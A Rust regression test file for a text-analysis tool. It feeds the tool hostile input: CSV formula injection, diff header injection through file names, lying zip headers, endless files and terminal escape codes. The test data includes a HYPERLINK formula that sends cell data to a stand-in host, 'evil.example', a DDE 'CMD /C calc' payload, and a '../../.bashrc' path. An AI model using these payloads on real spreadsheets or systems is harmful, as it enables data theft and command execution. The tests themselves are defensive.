//! Hostile input against every export and front end (#13): cells that would be
//! spreadsheet formulas, file names that would break a diff, Word files whose
//! headers lie, files that never end, and text that would drive a terminal.
//! Each test here failed before its fix.

use std::alloc::{GlobalAlloc, Layout, System};
use std::cell::Cell;
use std::process::Command;
use textlens::{reuse, Corpus, CompareOptions, DocId, ReuseOptions, TermOptions, ToCsv};

const SEEDS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/corpus/seeds");

// ---------- the largest single allocation of this thread ----------

struct Watch;

thread_local! {
    static LARGEST: Cell<usize> = const { Cell::new(0) };
}

fn note(size: usize) {
    let _ = LARGEST.try_with(|l| l.set(l.get().max(size)));
}

unsafe impl GlobalAlloc for Watch {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        note(layout.size());
        unsafe { System.alloc(layout) }
    }
    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        unsafe { System.dealloc(ptr, layout) }
    }
    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        note(new_size);
        unsafe { System.realloc(ptr, layout, new_size) }
    }
}

#[global_allocator]
static ALLOCATOR: Watch = Watch;

// ---------- CSV ----------

/// RFC 4180 cells of `text` (after its BOM); panics on anything malformed.
fn cells(text: &str) -> Vec<Vec<String>> {
    let body = text.strip_prefix('\u{FEFF}').unwrap_or_else(|| panic!("no BOM: {:?}", &text[..text.len().min(20)]));
    assert!(body.ends_with("\r\n"), "rows end with CRLF");
    let mut rows = vec![vec![String::new()]];
    let mut quoted = false;
    let mut chars = body.chars().peekable();
    while let Some(c) = chars.next() {
        let row = rows.last_mut().unwrap_or_else(|| panic!("no row"));
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                chars.next();
                row.last_mut().unwrap_or_else(|| panic!()).push('"');
            }
            ('"', _) => quoted = !quoted,
            (',', false) => row.push(String::new()),
            ('\r', false) => {
                assert_eq!(chars.next(), Some('\n'), "CR without LF");
                rows.push(vec![String::new()]);
            }
            ('\n', false) => panic!("a bare LF ends a row"),
            (c, _) => row.last_mut().unwrap_or_else(|| panic!()).push(c),
        }
    }
    rows.pop();
    rows
}

/// A cell a spreadsheet would evaluate (a number, even a negative one, is fine).
fn formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().map_or(true, |x| !x.is_finite())
}

const HOSTILE: &str = "Click =HYPERLINK(\"http://evil.example/?\"&A1,\"here\") now.\n\
    @SUM(1+1) and +CMD|' /C calc'!A0 and -2+3 and\ttab.\n\
    Click =HYPERLINK(\"http://evil.example/?\"&A1,\"here\") now.\n";

#[test]
fn terms_csv_cells_never_start_a_formula() {
    let mut c = Corpus::new();
    c.add_document("=1+1.txt", HOSTILE.as_bytes()).unwrap_or_else(|e| panic!("{e}"));
    for punct in [false, true] {
        let o = TermOptions { include_punct: punct, per_doc: true, ..TermOptions::default() };
        let r = textlens::terms(&c, &o).unwrap_or_else(|e| panic!("{e}"));
        let rows = cells(&r.to_csv());
        assert!(rows.len() > 5, "{rows:?}");
        for row in &rows {
            for cell in row {
                assert!(!formula(cell), "{cell:?} in {row:?}");
            }
        }
        // The document's name (a column header) and the terms are kept, marked as text.
        assert!(rows[0].iter().any(|h| h == "'=1+1.txt"), "{:?}", rows[0]);
        if punct {
            assert!(rows.iter().any(|r| r[0] == "'=" || r[0] == "'@" || r[0] == "'+"), "{rows:?}");
        }
    }
}

#[test]
fn reuse_csv_is_the_same_writer_as_terms() {
    let mut c = Corpus::new();
    for name in ["000_61b16b637bcca7d8.txt", "001_242e04c1848bbad0.txt"] {
        let bytes = std::fs::read(format!("{SEEDS}/{name}")).unwrap_or_else(|e| panic!("{name}: {e}"));
        c.add_document(&format!("@{name}"), &bytes).unwrap_or_else(|e| panic!("{e}"));
    }
    let r = reuse(&c, &ReuseOptions::default()).unwrap_or_else(|e| panic!("{e}"));
    let clusters = cells(&textlens::reuse::clusters_csv(&r));
    let matrix = cells(&textlens::reuse::matrix_csv(&r));
    assert_eq!(clusters[0][0], "cluster");
    assert_eq!(matrix[0], ["document", "'@000_61b16b637bcca7d8.txt", "'@001_242e04c1848bbad0.txt"]);
    assert!(clusters.len() > 2 && matrix.len() == 3);
    // Names that start with `@` are kept, marked as text.
    assert!(clusters.iter().skip(1).all(|row| row[4].starts_with("'@0")), "{clusters:?}");
    for row in clusters.iter().chain(&matrix) {
        for cell in row {
            assert!(!formula(cell), "{cell:?} in {row:?}");
        }
    }
}

// ---------- compare exports ----------

fn pair(a: &str, b: &str) -> textlens::report::CompareReport {
    let mut c = Corpus::new();
    let x = c.add_document(a, b"one two three.\nfour five.\n").unwrap_or_else(|e| panic!("{e}")).id;
    let y = c.add_document(b, b"one 2 three.\nfour five.\n").unwrap_or_else(|e| panic!("{e}")).id;
    textlens::compare(&c, DocId(x), DocId(y), &CompareOptions::default()).unwrap_or_else(|e| panic!("{e}"))
}

#[test]
fn unified_diff_names_cannot_escape_or_add_lines() {
    let r = pair("../../.bashrc", "b\n+++ b/x\n@@ -1 +1 @@\n-");
    let diff = textlens::compare::to_unified(&r);
    let lines: Vec<&str> = diff.lines().collect();
    assert_eq!(lines[0], "--- a/.bashrc");
    assert_eq!(lines[1], "+++ \"b/b\\n+++ b/x\\n@@ -1 +1 @@\\n-\"");
    assert!(lines[2].starts_with("@@ -1"), "{diff}");
    assert_eq!(lines.iter().filter(|l| l.starts_with("+++")).count(), 1, "{diff}");
}

#[test]
fn html_report_carries_its_own_csp() {
    let html = textlens::compare::to_html(&pair("<script>a</script>", "b.txt"));
    let head = &html[..html.find("</head>").unwrap_or_else(|| panic!("no head"))];
    assert!(
        head.contains("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline';"),
        "{head}"
    );
    assert!(!html.contains("<script"), "names are escaped");
}

// ---------- Word files whose headers lie ----------

/// A .docx whose zip headers claim `claim` bytes for `word/document.xml`.
fn lying_docx(claim: u32) -> Vec<u8> {
    use std::io::Write;
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let o = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    zip.start_file("word/document.xml", o).unwrap_or_else(|e| panic!("{e}"));
    zip.write_all(b"<w:document><w:body><w:p><w:r><w:t>hello</w:t></w:r></w:p></w:body></w:document>")
        .unwrap_or_else(|e| panic!("{e}"));
    let mut bytes = zip.finish().unwrap_or_else(|e| panic!("{e}")).into_inner();
    for (sig, off) in [(&b"PK\x03\x04"[..], 22), (&b"PK\x01\x02"[..], 24)] {
        let p = bytes.windows(4).position(|w| w == sig).unwrap_or_else(|| panic!("no header"));
        bytes[p + off..p + off + 4].copy_from_slice(&claim.to_le_bytes());
    }
    bytes
}

#[test]
fn a_docx_claiming_a_huge_part_reserves_no_huge_memory() {
    let bytes = lying_docx(500_000_000);
    LARGEST.with(|l| l.set(0));
    let result = textlens::formats::extract("claims.docx", &bytes, None);
    let largest = LARGEST.with(Cell::get);
    // Read or refused as damaged, either way without asking for 500 MB first.
    assert!(largest < 1 << 20, "{largest} bytes reserved for a {}-byte file ({:?})", bytes.len(), result.map(|x| x.text));
}

// ---------- the CLI ----------

fn cli(args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_textlens")).args(args).output().unwrap_or_else(|e| panic!("{e}"))
}

#[test]
fn cli_refuses_a_file_that_never_ends() {
    // /dev/zero has no size in its metadata: the read itself must stop at the limit.
    if !std::path::Path::new("/dev/zero").exists() {
        return;
    }
    for command in ["info", "segment"] {
        let out = cli(&[command, "/dev/zero"]);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{command}: {err}");
        assert!(err.contains("zero is ") && err.contains("over the limit"), "{command}: {err}");
    }
}

#[test]
fn cli_refuses_a_big_file_from_its_size_alone() {
    // A sparse 300 MB file, with 250 MB of address space: refused from its
    // metadata, not read into memory first (which would abort the CLI).
    let dir = std::env::temp_dir().join(format!("textlens-big-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap_or_else(|e| panic!("{e}"));
    let path = dir.join("big.txt");
    let f = std::fs::File::create(&path).unwrap_or_else(|e| panic!("{e}"));
    f.set_len(300_000_000).unwrap_or_else(|e| panic!("{e}"));
    let script = format!("ulimit -v 250000; exec '{}' terms '{}'", env!("CARGO_BIN_EXE_textlens"), path.display());
    let out = Command::new("sh").args(["-c", &script]).output().unwrap_or_else(|e| panic!("{e}"));
    let _ = std::fs::remove_dir_all(&dir);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("big.txt is 300 MB, over the limit of 256 MB per file"), "{err}");
    assert_eq!(out.status.code(), Some(1), "{err}");
}

/// Runs the CLI with its output on a terminal (a pseudo-terminal from
/// util-linux `script`); `None` if `script` is not installed.
fn on_terminal(args: &[&str]) -> Option<String> {
    let command = std::iter::once(env!("CARGO_BIN_EXE_textlens")).chain(args.iter().copied()).collect::<Vec<_>>().join(" ");
    let out = Command::new("script").args(["-qec", &command, "/dev/null"]).output().ok()?;
    Some(String::from_utf8_lossy(&out.stdout).into_owned())
}

#[test]
fn cli_prints_no_terminal_escapes_from_the_text() {
    let dir = std::env::temp_dir().join(format!("textlens-esc-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap_or_else(|e| panic!("{e}"));
    let path = dir.join("esc.txt");
    std::fs::write(&path, "title\u{1b}]0;pwned\u{7} red\u{1b}[31m 中文\u{9b}2J 中文 text over\rwritten text\n")
        .unwrap_or_else(|e| panic!("{e}"));
    let p = path.to_str().unwrap_or_default();
    // Piped, the words are the document's, byte for byte.
    let piped = String::from_utf8_lossy(&cli(&["segment", p]).stdout).into_owned();
    assert!(piped.contains('\u{1b}'), "{piped:?}");
    for args in [vec!["segment", p], vec!["terms", "--punct", p], vec!["kwic", "--query", "text", p]] {
        let Some(shown) = on_terminal(&args) else { return };
        assert!(shown.contains("中文"), "{args:?}: {shown:?}");
        assert!(!shown.contains(['\u{1b}', '\u{7}', '\u{9b}']), "{args:?}: {shown:?}");
        assert!(!shown.replace("\r\n", "\n").contains('\r'), "{args:?}: {shown:?}");
    }
    let _ = std::fs::remove_dir_all(&dir);
}

// ---------- the page's copy of the core's limits ----------

#[test]
fn the_page_knows_the_cores_size_limits() {
    // www/protocol.js refuses a file over the core's limit before copying it into the wasm, and
    // clamps `?maxFileMB=` to it: its numbers must be the core's.
    let js = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/www/protocol.js")).unwrap_or_else(|e| panic!("{e}"));
    let number = |key: &str| -> usize {
        let at = js.find(&format!("{key}: ")).unwrap_or_else(|| panic!("no {key} in protocol.js")) + key.len() + 2;
        js[at..].chars().take_while(|c| c.is_ascii_digit() || *c == '_').filter(|c| *c != '_').collect::<String>().parse().unwrap_or(0)
    };
    let limits = textlens::corpus::Limits::default();
    assert_eq!(number("maxFileBytes"), limits.max_file_bytes);
    assert_eq!(number("maxTotalBytes"), limits.max_total_bytes);
}

// ---------- repairs with a huge context ----------

#[test]
fn repair_context_is_capped() {
    // A fuzzer finding: 2 000 repairs, each with the whole text as context, asked for 512 MB.
    let mut c = Corpus::new();
    let text = "word-\nbreak ".repeat(2000);
    let id = c.add_document("hyphens.txt", text.as_bytes()).unwrap_or_else(|e| panic!("{e}")).id;
    let doc = c.document(DocId(id)).unwrap_or_else(|e| panic!("{e}"));
    let options = textlens::report::RepairOptions { kinds: Vec::new(), limit: usize::MAX, context: usize::MAX };
    LARGEST.with(|l| l.set(0));
    let report = doc.repairs(&options);
    let largest = LARGEST.with(Cell::get);
    assert!(report.repairs.len() >= 2000, "{} repairs", report.repairs.len());
    for r in &report.repairs {
        for side in [&r.before, &r.after] {
            let n = side.as_deref().map_or(0, |s| s.chars().count());
            assert!(n <= 200, "{n} characters of context");
        }
    }
    assert!(largest < 8 << 20, "{largest} bytes at once");
    let small = doc.repairs(&textlens::report::RepairOptions { context: 5, ..options });
    assert!(small.repairs.iter().all(|r| r.before.as_deref().is_some_and(|b| b.chars().count() <= 5)));
}
